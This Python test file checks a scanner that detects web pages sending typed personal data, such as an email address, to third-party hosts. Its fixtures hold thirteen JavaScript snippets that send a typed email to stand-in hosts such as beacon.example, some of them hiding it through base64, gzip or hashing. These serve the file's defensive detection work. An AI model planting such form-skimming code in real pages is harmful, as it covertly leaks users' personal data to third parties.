"""What pages send to others is searched for what was typed: every way out is tried, and what is not typed is let go."""

from __future__ import annotations

import asyncio
import base64
import gzip
import hashlib
import re

import pytest

from observability.page_facts import facts
from observability.page_findings import findings
from observability.views import Leak, Stop, Tour
from scorecard.evidence import Severity

pytest.importorskip("playwright", reason="Playwright is not installed: pip install with the extra 'pages'")

from observability import browser
from observability.page_sendings import bodies, readings
from observability.page_typing import FREE_TEXT, kind_of
from observability.tour import Plan, Typing, tour

CHROMIUM = browser.find_chromium()
EMAIL = "usager-9@example.org"
VALUES = {"email": EMAIL, "name": "Élodie Étienne", FREE_TEXT: "Essai 5f1c9a"}
WAYS = {
    "fetch": "fetch(to, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ email }) })",
    "file": "fetch(to, { method: 'POST', mode: 'no-cors', body: new Blob([email]) })",
    "request": "fetch(new Request(to, { method: 'POST', mode: 'no-cors', body: new Blob([email]) }))",
    "buffer": "fetch(to, { method: 'POST', mode: 'no-cors', body: new TextEncoder().encode(email) })",
    "form": "const f = new FormData(); f.append('x', new Blob([email]), 'x'); "
    "fetch(to, { method: 'POST', mode: 'no-cors', body: f })",
    "xhr": "const x = new XMLHttpRequest(); x.open('POST', to); x.send(new Blob([email]))",
    "beacon": "navigator.sendBeacon(to, email)",
    "image": "new Image().src = to + '?' + new URLSearchParams({ email })",
    "base64": "new Image().src = to + '?d=' + btoa('{\"mail\":\"' + email + '\"}')",
    "socket": "new WebSocket(to.replace('http', 'ws') + '?e=' + encodeURIComponent(email))",
    "digest": "crypto.subtle.digest('SHA-256', new TextEncoder().encode(email)).then(d => { new Image().src = to "
    "+ '?h=' + [...new Uint8Array(d)].map(b => b.toString(16).padStart(2, '0')).join('') })",
    "packed": "new Response(new Blob([email]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer()"
    ".then(body => fetch(to, { method: 'POST', mode: 'no-cors', body }))",
    "leaving": "addEventListener('pagehide', () => navigator.sendBeacon(to, email))",
}
PAGE = """<!doctype html><html lang="fr"><head><meta charset="utf-8"><title>Demande</title>
<meta name="viewport" content="width=device-width, initial-scale=1"></head><body><main><h1>Demande</h1>
<form method="post" action="/file"><p><label>Courriel <input name="courriel"></label></p>
<p><label>Votre nom <input name="nom"></label></p><p><label>Besoin <textarea name="besoin"></textarea></label></p>
<p><button>Envoyer</button></p></form></main><script>{script}</script></body></html>"""
ON_CHANGE = """document.querySelector('[name=courriel]').addEventListener('change', change => {
  const email = change.target.value; %s });"""


@pytest.fixture(scope="module")
def seen(pages, answer, tmp_path_factory) -> Tour:
    """A tour of a page that sends what is typed in every way, one that sends something else, and one on sending."""
    ways = "".join(f"{{ const to = 'http://{name}.example/'; {way}; }}" for name, way in WAYS.items())
    pages.answers["/leaks"] = answer(PAGE.format(script=ON_CHANGE % ways))
    counts = "fetch('http://counter.example/', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ left: 1 }) });"
    pages.answers["/counts"] = answer(PAGE.format(script=ON_CHANGE % counts))
    on_sending = """document.forms[0].addEventListener('submit', event => { event.preventDefault();
      fetch('/file', { method: 'POST', body: new FormData(event.target) }).then(answer => answer.json())
        .then(() => navigator.sendBeacon('http://after.example/', document.querySelector('textarea').value)); });"""
    pages.answers["/sends"] = answer(PAGE.format(script=on_sending))
    assert CHROMIUM is not None
    typing = Typing(VALUES, {value: kind for kind, value in VALUES.items()})
    stops = [Stop(path, path) for path in ("/leaks", "/counts", "/sends")]
    plan, folder = Plan(pages=3, loads=1, total_s=120, page_s=30), tmp_path_factory.mktemp("pictures")
    pages.asked.clear()
    return asyncio.run(tour(pages.url, stops, plan, CHROMIUM, folder, typing, lambda share: None))


@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium: install the system's package chromium")
class TestSendings:
    def test_every_way_out_is_seen(self, seen: Tour):
        assert {leak.origin for leak in seen.leaks["/leaks"]} == {f"{name}.example" for name in WAYS}
        assert {leak.kind for leak in seen.leaks["/leaks"]} == {"email"}

    def test_what_was_not_typed_is_no_leak(self, seen: Tour):
        assert seen.leaks["/counts"] == set()
        assert {view.path for view in seen.views if "counter.example" in view.others} == {"/counts"}

    def test_a_script_that_sends_after_the_form_was_taken_is_seen_and_the_service_got_nothing(self, seen: Tour, pages):
        assert seen.leaks["/sends"] == {Leak(FREE_TEXT, "after.example")}
        assert seen.filled == {"/leaks": 3, "/counts": 3, "/sends": 3}
        assert not [path for path in pages.asked if path.startswith("/file")]

    def test_each_is_a_finding_with_the_page_and_the_third_party_and_never_the_value(self, seen: Tour):
        found = [one for one in findings(seen) if one.rule == "personal-data-to-third-party"]
        assert len(found) == len(WAYS) + 1
        assert {one.location for one in found} == {"GET /leaks", "GET /sends"}
        assert {(one.severity, one.cwe) for one in found} == {(Severity.HIGH, "CWE-359")}
        assert all(one.remedy and one.fingerprint for one in found)
        said = " ".join(one.message for one in found) + str(facts(seen, None))
        assert "an e-mail address that was typed to beacon.example" in said
        assert not any(value in said for value in VALUES.values())
        assert {one.id: one.value for one in facts(seen, None)}["page.personal_values_sent"] == len(WAYS) + 1

    def test_without_the_journeys_that_none_was_found_clears_nothing(self, seen: Tour):
        clean = Tour(stops=seen.stops[1:2], views=[v for v in seen.views if v.path == "/counts"], filled={"/counts": 3})
        by_id = {one.id: one for one in facts(clean, None)}
        assert by_id["page.personal_values_sent"].value == 0
        clean.unfilled["/counts"] = 1
        unknown = {one.id: one for one in facts(clean, None)}["page.personal_values_sent"]
        assert unknown.value is None
        assert unknown.reason is not None
        assert "/counts (1)" in unknown.reason.en


def test_a_text_is_read_through_its_wrappings():
    inner = f'{{"mail": "{EMAIL}"}}'
    for text in (inner, re.sub("@", "%40", inner), re.sub("@", "%2540", inner)):
        assert any(EMAIL in reading for reading in readings(text))
    for encode in (base64.b64encode, base64.urlsafe_b64encode):
        assert any(EMAIL in reading for reading in readings("d=" + encode(inner.encode()).decode().rstrip("=")))
    assert any(EMAIL in body for body in bodies(gzip.compress(inner.encode())))
    assert list(bodies(b"\x1f\x8bno gzip at all")) == [b"\x1f\x8bno gzip at all".decode("utf-8", "replace")]
    assert not any(EMAIL in reading for reading in readings(hashlib.sha256(EMAIL.encode()).hexdigest()))


@pytest.mark.parametrize(
    ("type_", "words", "kind"),
    [
        ("email", "x", "email"),
        ("text", "off contact_email", "email"),
        ("text", "Adresse de courriel", "email"),
        ("tel", "", "telephone"),
        ("text", "IBAN du compte", "iban"),
        ("text", "Numéro de sécurité sociale", "nir"),
        ("text", "company_name", "name"),
        ("text", "Nombre de salariés", FREE_TEXT),
        ("textarea", "besoin", FREE_TEXT),
    ],
)
def test_a_field_is_given_what_it_asks_for(type_: str, words: str, kind: str):
    assert kind_of(type_, words) == kind
